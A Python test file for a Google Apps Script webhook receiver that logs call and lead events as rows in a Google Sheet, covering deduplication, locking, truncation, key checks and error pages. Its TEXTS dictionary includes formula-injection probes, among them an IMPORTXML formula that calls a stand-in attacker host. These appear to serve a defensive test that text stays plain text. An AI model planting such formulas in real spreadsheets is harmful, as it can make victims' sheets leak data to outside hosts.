"""The script for Google Sheets: a row for each event, whatever is sent and however often.

The script is the file that owners copy. The script runs against stand-ins for Google's objects. `deliver` knows Apps
Script by its host, which no local address has. So tests of the crates `domain` and `adapters` judge Google's answers,
by the pages that the fake answers with, and the tests here look at the sheet. For `deliver`, the fake's redirect is one
of any host: the attempt counts as failed, and the event comes again, which must not add a row.
"""

import http.client
import json
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit
from uuid import uuid4

import pytest

from infra.fakes.apps_script import ECHO, Access, AppsScript, Deployment, Row, page, running_apps_script
from infra.local import environment
from infra.local.processes import until

from .business import TestBusiness
from .conftest import Businesses
from .portal import Owner, Portal
from .waits import SECONDS

SCRIPT = (environment.ROOT / "events" / "receivers" / "google_sheets.gs").read_text()
SAMPLES = sorted((environment.ROOT / "events" / "samples").glob("*.json"))
SHEET = "ProSaaS"
KINDS = ["webhook.test", "call.completed", "lead.created", "appointment.booked", "lead.status_changed"]

ID, TYPE, TIME, NAME, PHONE, DIRECTION, LENGTH, SUMMARY, TRANSCRIPT, AGENT, MORE = range(11)
"""The columns."""


@pytest.fixture(scope="module")
def apps_script(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AppsScript]:
    with running_apps_script(tmp_path_factory.mktemp("apps_script")) as running:
        yield running


@pytest.fixture
def deployment(apps_script: AppsScript) -> Deployment:
    return apps_script.deploy(SCRIPT)


@dataclass(frozen=True)
class Reply:
    """An answer of the fake."""

    status: int
    location: str | None
    body: bytes

    @property
    def says_ok(self) -> bool:
        """Whether the script has returned a text."""
        return self.status == 302 and (self.location or "").startswith(ECHO)

    @property
    def says_error(self) -> bool:
        """Whether the answer is Google's page of an error."""
        beginning, _, end = page("error", title="Error").partition(b"$message")
        return self.status == 200 and self.body.startswith(beginning) and self.body.endswith(end)


def post(deployment: Deployment, event: dict[str, Any] | str, query: str = "") -> Reply:
    body = event if isinstance(event, str) else json.dumps(event, ensure_ascii=False)
    address = urlsplit(deployment.url)
    connection = http.client.HTTPConnection(address.netloc, timeout=SECONDS)
    try:
        fields = {"Content-Type": "application/json; charset=utf-8"}
        connection.request("POST", address.path + query, body.encode(), fields)
        answer = connection.getresponse()
        return Reply(answer.status, answer.getheader("Location"), answer.read())
    finally:
        connection.close()


def call(**fields: object) -> dict[str, Any]:
    """Make a call as `deliver` sends it."""
    return {
        "event_type": "call.completed",
        "business_id": "b",
        "call_id": f"CA{uuid4().hex}",
        "phone": "+972550000114",
        "started_at": "2025-11-03T07:41:20Z",
        "duration_sec": 74,
        "transcript": "ליאור: שלום",
        "summary": "נקבע תור",
        "direction": "inbound",
        "metadata": {"intent": "תור"},
    } | fields


def only_row(deployment: Deployment) -> Row:
    [row] = deployment.rows(SHEET)
    return row


def test_every_sample_that_comes_again_and_again_is_one_row(apps_script: AppsScript, business_for: Businesses) -> None:
    businesses = business_for(SAMPLES)
    deployments = {sample: apps_script.deploy(SCRIPT) for sample in businesses}
    for sample, business in businesses.items():
        business.settings.at(deployments[sample].url).save(business.stack)
        business.publish(json.loads(sample.read_text()) | {"business_id": business.id})
    for sample, business in businesses.items():
        deployment = deployments[sample]
        until(lambda deployment=deployment: len(deployment.requests) >= 3, SECONDS, "three requests")
        business.logs(message="retrying", cause="redirect", redirect_host=urlsplit(ECHO).netloc)
        event = json.loads(deployment.requests[0].body)
        row = only_row(deployment)
        assert row[TYPE] == event["event_type"], sample
        assert row[PHONE] == (event.get("phone") or event.get("lead_phone") or ""), sample
        assert row[TRANSCRIPT] == event.get("transcript", "")[:49_000], sample
        assert json.loads(row[MORE] or "null") == event.get("metadata"), sample


def test_test_event_of_each_type_is_a_row(deployment: Deployment, business: TestBusiness, portal: Portal) -> None:
    business.settings.at(deployment.url).save(business.stack)
    owner = Owner(business, portal)
    for kind in KINDS:
        assert owner.post("/api/test", {"event_type": kind}).json["location"].startswith(ECHO), kind
    rows = deployment.rows(SHEET)
    assert [row[TYPE] for row in rows] == KINDS
    assert all("date" in row[TIME] for row in rows if row[TYPE] != "lead.created")
    assert all(row[PHONE].startswith("+972") for row in rows)


def test_event_that_comes_twice_is_one_row_and_both_answers_say_ok(deployment: Deployment) -> None:
    first, second = call(), call()
    for event in (first, second, first, second):
        assert post(deployment, event).says_ok
    assert [row[ID] for row in deployment.rows(SHEET)] == [
        f"call.completed:{one['call_id']}" for one in (first, second)
    ]


def at_once(deployment: Deployment, *events: dict[str, Any]) -> list[Reply]:
    """Post events at the same time."""
    with ThreadPoolExecutor(len(events)) as threads:
        return list(threads.map(lambda event: post(deployment, event), events))


def changed(**changes: str) -> str:
    """Give the script with other words at some of its places."""
    script = SCRIPT
    for place, other in changes.items():
        assert PLACES[place] in script
        script = script.replace(PLACES[place], other)
    return script


PLACES = {
    "key": "const KEY = '';",
    "wait": "lock.waitLock(20000);",
    "append": "if (!known) sheet.appendRow(",
    "flush": "SpreadsheetApp.flush();",
    "answer": "return ContentService",
    "length": "event.duration_sec",
}

SLOW_APPEND = "Utilities.sleep(300); if (!known) sheet.appendRow("


def test_event_that_comes_twice_at_once_is_one_row_also_in_a_new_sheet(apps_script: AppsScript) -> None:
    deployment = apps_script.deploy(changed(append=SLOW_APPEND))
    event, other = call(), call()
    assert all(reply.says_ok for reply in at_once(deployment, event, event, other, other))
    assert len(deployment.rows(SHEET)) == 2


@pytest.mark.parametrize(
    "changes",
    [
        {"wait": "", "append": SLOW_APPEND},
        {"flush": "", "answer": "Utilities.sleep(300); return ContentService"},
    ],
    ids=["lock", "flush"],
)
def test_script_without_its_lock_or_its_flush_would_write_more_rows(
    apps_script: AppsScript, changes: dict[str, str]
) -> None:
    deployment = apps_script.deploy(changed(**changes))
    deployment.fill(SHEET, [["מזהה"]])
    at_once(deployment, *[call()] * 4)
    assert len(deployment.rows(SHEET)) > 1


TEXTS = {
    "hebrew": 'שלום, "ד״ר" כהן\nשורה שנייה 😀',
    "formula": "=1+1",
    "import": '=IMPORTXML("https://evil.example","//a")',
    "phone": "+972550000114",
    "minus": "-5 שקלים",
    "at": "@SUM(1)",
    "number": "0550000114",
    "apostrophe": "'tis",
}


def test_text_stays_the_same_text_in_every_column(deployment: Deployment) -> None:
    for text in TEXTS.values():
        post(deployment, call(call_id=text, phone=text, summary=text, transcript=text, agent_name=text, name=text))
    for name, row in zip(TEXTS, deployment.rows(SHEET), strict=True):
        text = TEXTS[name]
        assert [row[column] for column in (PHONE, SUMMARY, TRANSCRIPT, AGENT, NAME)] == [text] * 5, name
        assert row[ID] == f"call.completed:{text}"


def test_values_of_other_kinds_are_kept(deployment: Deployment) -> None:
    post(
        deployment,
        call(started_at="", ended_at="מחר", summary={"a": [1]}, agent_name=True, duration_sec=0, metadata={}),
    )
    row = only_row(deployment)
    assert (row[TIME], row[SUMMARY], row[AGENT], row[LENGTH], row[MORE]) == ("מחר", '{"a":[1]}', "true", 0, "{}")
    assert row[DIRECTION] == "נכנסת"


def test_text_of_60_000_characters_is_cut_and_the_call_is_not_lost(deployment: Deployment) -> None:
    assert post(deployment, call(transcript="ש" * 60_000, metadata={"long": "x" * 60_000})).says_ok
    row = only_row(deployment)
    assert row[TRANSCRIPT] == "ש" * 49_000
    assert len(row[MORE]) == 49_000


def test_event_of_an_unknown_type_is_a_row_and_its_content_tells_it_from_others(deployment: Deployment) -> None:
    event = {"event_type": "quote.requested", "business_id": "b", "quote_id": 550, "lead_name": "ישראלה"}
    for sent in (event, event, event | {"quote_id": 551}):
        assert post(deployment, sent).says_ok
    first, second = deployment.rows(SHEET)
    assert first[TYPE] == second[TYPE] == "quote.requested"
    assert first[NAME] == "ישראלה"
    assert first[ID] != second[ID]


def test_wrong_key_is_an_error_and_no_row(apps_script: AppsScript) -> None:
    deployment = apps_script.deploy(changed(key="const KEY = 'סוד 1';"))
    for query in ("", "?key=", "?key=x", "?other=x"):
        assert post(deployment, call(), query).says_error, query
    assert deployment.rows(SHEET) == []
    assert post(deployment, call(), "?key=%D7%A1%D7%95%D7%93%201").says_ok
    assert len(deployment.rows(SHEET)) == 1


@pytest.mark.parametrize("body", ["", "{", "null", "<html>", '{"event_type":"call.completed"'])
def test_what_is_no_event_is_an_error_and_no_row(deployment: Deployment, body: str) -> None:
    assert post(deployment, body).says_error
    assert deployment.rows(SHEET) == []


def test_lock_is_given_back_after_an_error(apps_script: AppsScript) -> None:
    deployment = apps_script.deploy(changed(length="event.duration_sec.missing.missing"))
    event = call()
    reply = post(deployment, event)
    assert reply.says_error
    assert re.search(rb"TypeError: .*\(line \d+, file &quot;Code&quot;\)</div>", reply.body)
    assert deployment.rows(SHEET) == []
    deployment.save(SCRIPT)
    assert post(deployment, event).says_ok
    assert len(deployment.rows(SHEET)) == 1


def test_known_event_among_50_000_rows_is_found_without_reading_them(deployment: Deployment) -> None:
    known, new = call(), call()
    rows: list[Row] = [["מזהה"], *([f"call.completed:CA{number}"] for number in range(50_000))]
    rows[25_000] = [f"call.completed:{known['call_id']}"]
    deployment.fill(SHEET, rows)
    for event in (known, new, new):
        assert post(deployment, event).says_ok
    assert len(deployment.rows(SHEET)) == 50_001
    assert sum(deployment.cells_read) == 0


def test_only_a_whole_id_in_the_same_case_is_the_same_event(deployment: Deployment) -> None:
    for call_id in ("CA1", "CA12", "ca1", "A1"):
        post(deployment, call(call_id=call_id))
    assert len(deployment.rows(SHEET)) == 4


def test_sheet_whose_rows_are_all_used_gets_more(deployment: Deployment) -> None:
    deployment.fill(SHEET, [["מזהה"]] * 1_000)
    assert post(deployment, call()).says_ok
    assert len(deployment.rows(SHEET)) == 1_000


def test_fake_answers_as_google_does(apps_script: AppsScript) -> None:
    returns = "function doPost() { return %s; }"
    scripts = {
        "page": returns % "HtmlService.createHtmlOutput('<p>').setTitle('Error')",
        "nothing": returns % "undefined",
        "object": returns % "{}",
        "none": "function doGet() {}",
        "broken": "function doPost( {",
    }
    replies = {name: post(apps_script.deploy(script), {}) for name, script in scripts.items()}
    assert {reply.status for reply in replies.values()} == {200}
    assert replies["page"].body == page("html_service", title="Error")
    assert all(replies[name].says_error for name in ("nothing", "object", "none", "broken"))
    assert b">The script completed but did not return anything.<" in replies["nothing"].body
    assert b">Script function not found: doPost<" in replies["none"].body
    closed = post(apps_script.deploy(SCRIPT, Access.ANYONE_WITH_GOOGLE_ACCOUNT), call())
    assert (closed.status, urlsplit(closed.location or "").netloc) == (302, "accounts.google.com")
    unauthorised = apps_script.deploy(SCRIPT, is_authorised=False)
    assert post(unauthorised, call()).body == page("authorization", title="Authorization needed")
    assert unauthorised.rows(SHEET) == []
